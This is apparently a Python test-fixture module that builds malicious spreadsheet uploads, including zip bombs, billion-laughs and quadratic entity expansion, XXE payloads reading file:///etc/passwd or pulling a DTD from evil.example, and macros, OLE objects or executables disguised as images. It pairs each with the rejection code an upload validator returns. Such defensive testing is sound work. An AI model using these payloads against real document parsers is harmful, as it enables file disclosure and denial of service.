"""Uploads that no honest trainee sends: what each is, and the code that refuses it (``""``: it may be read)."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Final

from tests.builders.archives import MEGABYTE, Entry, bomb, entry, loosely, repeated, zipped
from tests.builders.workbooks import (
    CELLS,
    HEAD,
    MAIN,
    OFFICE,
    SHEET,
    TYPE,
    TYPES,
    book,
    parts,
    relations,
    rows,
    sheet,
    strings,
    styles,
    types,
    workbook,
)

OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
STRINGS: Final = "xl/sharedStrings.xml"
BOOK: Final = "xl/workbook.xml"
LAUGHS: Final = (
    '<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;">]>'
)
QUADRATIC: Final = f'<!DOCTYPE sst [<!ENTITY a "{"x" * 50_000}">]>'
EXTERNAL: Final = '<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">'
PARAMETER: Final = '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
WANTED_STRING: Final = sheet('<row r="5"><c r="B5" t="s"><v>9999999</v></c></row>')
NEWLINES: Final = "\n" * 8000

Maker = Callable[[], bytes]


def _cut(
    block: str,
    times: int,
    *,
    name: str = SHEET,
    around: bytes = sheet("@"),
    replaced: Mapping[str, bytes] = {},
) -> bytes:
    """The workbook with part `name` as `around`, whose @ stands for many equal blocks."""
    made = parts(replaced)
    del made[name]
    start, _, end = around.partition(b"@")
    return zipped(made, loosely(name, start + block.encode() * times + end))


def _undeclared(name: str, size: int, block: bytes, times: int) -> bytes:
    made = parts()
    made.pop(name, None)
    return zipped(made, Entry(name.encode(), repeated(block, times), size, 0))


def plus(*entries: Entry) -> bytes:
    return book({}, *entries)


def _typed(kind: str, name: str = "xl/theme/theme9.xml", content: bytes = b"<a/>") -> bytes:
    return book({"[Content_Types].xml": types(*TYPES, ("/" + name, kind)), name: content})


def _related(line: str) -> bytes:
    return book({"xl/worksheets/_rels/sheet1.xml.rels": relations(line)})


def main(kind: str) -> bytes:
    return book({"[Content_Types].xml": types(("/xl/workbook.xml", kind), *TYPES[1:])})


def _nested_elements() -> bytes:
    return _cut("<a>", 500_000, around=sheet("<row><c>@"))


def _many_attributes() -> bytes:
    return rows("".join(f"<c{i} " + " ".join(f'a{i}x{j}="1"' for j in range(40)) + "/>" for i in range(4000)))


def _one_token() -> bytes:
    return _cut("12", 450_000, around=sheet('<row r="5"><c r="B5" s="@"/></row>'))


def _long_namespace() -> bytes:
    return book({SHEET: sheet().replace(b"<row", f'<row xmlns:q="{"n" * 100_000}"'.encode(), 1)})


def _styles(times: int) -> bytes:
    return _cut("<xf numFmtId='1'/>", times, name="xl/styles.xml", around=styles(0, 10, more="@"))


def _strings() -> bytes:
    around = strings("x").replace(b"</sst>", b"@</sst>")
    return _cut("<si/>", 1_100_000, name=STRINGS, around=around, replaced={SHEET: WANTED_STRING})


def _formulas_that_cover() -> bytes:
    return _cut('<c><f t="array" ref="A1:B9">1</f></c>', 200_000, around=sheet('<row r="1">@</row>'))


def _names(count: int) -> bytes:
    return book({BOOK: workbook("".join(f'<definedName name="n{i}">OEE!$A$1</definedName>' for i in range(count)))})


def _sheets(count: int) -> bytes:
    return book({BOOK: workbook(sheets="".join(f'<sheet name="s{i}" r:id="rId1"/>' for i in range(count)))})


def _utf16(prolog: str) -> bytes:
    text = sheet(prolog=prolog).decode().replace("UTF-8", "UTF-16")
    return book({SHEET: text.encode("utf-16")})


def _encoded(name: str, codec: str) -> bytes:
    text = sheet(prolog=EXTERNAL).decode().replace("UTF-8", name)
    return book({SHEET: text.encode(codec)})


WEIGHTS: Final[dict[str, tuple[Maker, str]]] = {
    "three megabytes": (lambda: b"PK\x03\x04" + bytes(3 * MEGABYTE), "too-large"),
    "500 MB of padding": (lambda: plus(bomb("xl/padding.xml", 500)), "too-large"),
    "500 MB that declare one kilobyte": (lambda: plus(bomb("xl/padding.xml", 500, declared=1000)), "damaged"),
    "324 MB that declare 4 MB": (lambda: _undeclared("xl/a.xml", 4 * MEGABYTE, b"<a/>" * 9000, 9000), "damaged"),
    "a string of 300 MB": (lambda: _undeclared(STRINGS, 300 * MEGABYTE, b"x" * MEGABYTE, 300), "too-large"),
    "a million rows": (
        lambda: _undeclared(SHEET, 72 * MEGABYTE, b"<row><c><v>1</v></c><c><v>2</v></c></row>" * 20_000, 80),
        "too-large",
    ),
    "six parts of 4 MB": (
        lambda: plus(*(entry(f"xl/p{i}.xml", b"<a>" + b"12345678" * 480_000) for i in range(6))),
        "too-large",
    ),
    "the far corner": (lambda: rows('<c r="B5"><v>1</v></c><c r="XFD5"><v>2</v></c>'), ""),
    "two far rows": (lambda: book({SHEET: sheet(CELLS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}), ""),
    "beyond the far corner": (lambda: rows('<c r="XFE5"><v>1</v></c>'), "damaged"),
    "eight megabytes of nothing at deflate's best": (
        lambda: _undeclared(SHEET, 8 * MEGABYTE, b"<row/>" * 100_000, 13),
        "too-large",
    ),
    "empty rows": (lambda: _cut("<row/>", 1_300_000), ""),
    "empty cells": (lambda: _cut("<c/>", 1_900_000, around=sheet('<row r="1">@</row>')), "too-many-cells"),
    "cells of other namespaces": (
        lambda: _cut("<q:c/>", 1_200_000, around=sheet('<row r="1" xmlns:q="q">@</row>')),
        "too-many-cells",
    ),
    "columns before the data": (lambda: _cut("<col/>", 1_300_000, around=sheet(before="@")), "too-many-cells"),
    "merged cells": (
        lambda: _cut('<mergeCell ref="A1:B2"/>', 300_000, around=sheet(after="<mergeCells>@</mergeCells>")),
        "",
    ),
    "styles": (lambda: _styles(160_000), "too-many-styles"),
    "too much of styles": (lambda: _styles(180_000), "too-large"),
    "number formats": (
        lambda: book({"xl/styles.xml": styles(0, codes="".join(f'<numFmt numFmtId="{i}"/>' for i in range(9000)))}),
        "too-many-styles",
    ),
    "defined names": (lambda: _names(12_000), "too-many-names"),
    "sheets": (lambda: _sheets(500), "too-many-sheets"),
    "shared strings": (
        _strings,
        "too-many-strings",
    ),
    "comments": (
        lambda: _filled_new("xl/comments1.xml", f'<comments xmlns="{MAIN}">'.encode(), b"<comment/>", 180_000), ""
    ),
    "too many comments": (
        lambda: _filled_new("xl/comments1.xml", f'<comments xmlns="{MAIN}">'.encode(), b"<comment/>", 210_000),
        "too-large",
    ),
    "a cell of 7 MB": (lambda: _cut("x y z ", 1_100_000, around=sheet(
        '<row r="5"><c r="B5" t="inlineStr"><is><t>@</t></is></c></row>')), ""),
    "a cell of 7 million lines": (lambda: _cut("\n", 7_000_000, around=sheet(
        '<row r="5"><c r="B5" t="inlineStr"><is><t>@</t></is></c></row>')), ""),
    "formulas of lines": (lambda: _cut(f'<c><f t="array" ref="B5">{NEWLINES}</f></c>', 970, around=sheet(
        '<row r="1">@</row>')), ""),
    "cells of 32,767 characters": (
        lambda: _cut(f'<c t="inlineStr"><is><t>{"x" * 32_767}</t></is></c>', 60, around=sheet('<row r="5">@</row>')), ""
    ),
    "a formula of 5 MB": (lambda: _cut("(1+", 1_600_000, around=sheet(
        '<row r="5"><c r="B5"><f>@</f><v>1</v></c></row>')), ""),
    "a formula nested 8,000 deep": (lambda: rows(f'<c r="B5"><f>{"(" * 8000}1{")" * 8000}</f><v>1</v></c>'), ""),
    "formulas that cover a wanted cell": (_formulas_that_cover, "too-many-cells"),
    "elements 500,000 deep": (_nested_elements, "damaged"),
    "160,000 names of attributes": (_many_attributes, "damaged"),
    "a token of 1 MB": (_one_token, "damaged"),
    "a comment of 7 MB": (lambda: _cut("x y ", 1_700_000, around=sheet(before="<!--@-->")), "damaged"),
    "a namespace of 100 kB": (_long_namespace, "damaged"),
    "a number of 900 digits": (lambda: rows(f'<c r="B5"><v>{"9" * 900}</v></c>'), "damaged"),
    "an infinite number": (lambda: rows('<c r="B5"><v>1e999</v></c>'), ""),
    "a number that is none": (lambda: rows('<c r="B5"><v>nan</v></c>'), "damaged"),
}  # fmt: skip


def _filled_new(name: str, start: bytes, block: bytes, times: int) -> bytes:
    return book({}, loosely(name, start + block * times))


RUNNING: Final[dict[str, tuple[Maker, str]]] = {
    "macros": (lambda: plus(entry("xl/vbaProject.bin", OLE)), "macro"),
    "macros under another name": (
        lambda: plus(entry("xl/media/image1.png", OLE + "VBA".encode("utf-16-le"))),
        "macro",
    ),
    "macros as printer settings": (lambda: plus(entry("xl/printerSettings/p1.bin", OLE)), "ole"),
    "a macro-enabled workbook": (lambda: main("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
    "a macro template": (lambda: main("application/vnd.ms-excel.template.macroEnabled.main+xml"), "macro"),
    "macros by content type": (lambda: _typed("application/vnd.ms-office.vbaProject"), "macro"),
    "macros by content type, shouted": (lambda: _typed("APPLICATION/VND.MS-OFFICE.VBAPROJECT"), "macro"),
    "macros by relationship": (
        lambda: _related(
            'Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="../theme.xml"'
        ),
        "macro",
    ),
    "a macro sheet of Excel 4": (lambda: _typed("application/vnd.ms-excel.macrosheet+xml"), "macro"),
    "an OLE object": (lambda: plus(entry("xl/embeddings/oleObject1.bin", OLE)), "ole"),
    "an OLE object as a picture": (lambda: plus(entry("xl/media/image1.png", OLE)), "ole"),
    "an OLE object by relationship": (lambda: _related(f'Id="a" Type="{OFFICE}/oleObject" Target="../x.xml"'), "ole"),
    "a workbook in the workbook": (lambda: plus(entry("xl/media/image1.png", book())), "ole"),
    "a program": (lambda: plus(entry("xl/media/image1.png", b"MZ\x90" + bytes(99))), "ole"),
    "ActiveX": (lambda: plus(entry("xl/activeX/activeX1.xml", b"<ax/>")), "activex"),
    "ActiveX by content type": (lambda: _typed("application/vnd.ms-office.activeX+xml"), "activex"),
    "ActiveX by relationship": (lambda: _related(f'Id="a" Type="{OFFICE}/control" Target="../x.xml"'), "activex"),
    "a link to a workbook": (lambda: plus(entry("xl/externalLinks/externalLink1.xml", b"<a/>")), "external-links"),
    "a link by relationship": (
        lambda: _related(f'Id="a" Type="{OFFICE}/image" TargetMode="External" Target="http://evil.example/x.png"'),
        "external-links",
    ),
    "a link to a file": (
        lambda: _related(f'Id="a" Type="{OFFICE}/x" TargetMode="External" Target="file://///evil/share"'),
        "external-links",
    ),
    "a data connection": (lambda: plus(entry("xl/connections.xml", b"<a/>")), "connections"),
    "a query table": (lambda: _typed(f"{TYPE}.queryTable+xml"), "connections"),
    "billion laughs": (lambda: book({STRINGS: strings("&f;", prolog=LAUGHS)}), "doctype"),
    "a quadratic entity": (lambda: book({STRINGS: strings("&a;" * 2000, prolog=QUADRATIC)}), "doctype"),
    "an external document type": (lambda: book({SHEET: sheet(prolog=EXTERNAL)}), "doctype"),
    "a parameter entity": (lambda: book({SHEET: sheet(prolog=PARAMETER)}), "doctype"),
    "a document type of the book": (lambda: book({BOOK: workbook(before="<!DOCTYPE a>")}), "doctype"),
    "a document type in a part unknown": (lambda: plus(entry("customXml/item1.xml", b"<!DOCTYPE a><a/>")), "doctype"),
    "a document type in a drawing": (lambda: plus(entry("xl/drawings/v.vml", LAUGHS.encode() + b"<sst/>")), "doctype"),
    "a document type of the content types": (
        lambda: book({"[Content_Types].xml": types(*TYPES).replace(b"<Types", b"<!DOCTYPE Types><Types", 1)}),
        "doctype",
    ),
    "a document type of relationships": (
        lambda: book({"_rels/.rels": b"<!DOCTYPE Relationships>" + parts()["_rels/.rels"].removeprefix(HEAD.encode())}),
        "doctype",
    ),
    "a document type in UTF-16": (lambda: _utf16(EXTERNAL), "doctype"),
    "a document type in UTF-7": (lambda: _encoded("UTF-7", "utf-7"), "encoding"),
    "a document type in EBCDIC": (lambda: _encoded("cp037", "utf-8"), "encoding"),
    "an encoding that is none": (lambda: _encoded("x-none", "utf-8"), "encoding"),
    "a late document type": (
        lambda: book({SHEET: sheet(prolog="<!-- -->" * 20_000 + EXTERNAL)}), "damaged"
    ),
}  # fmt: skip
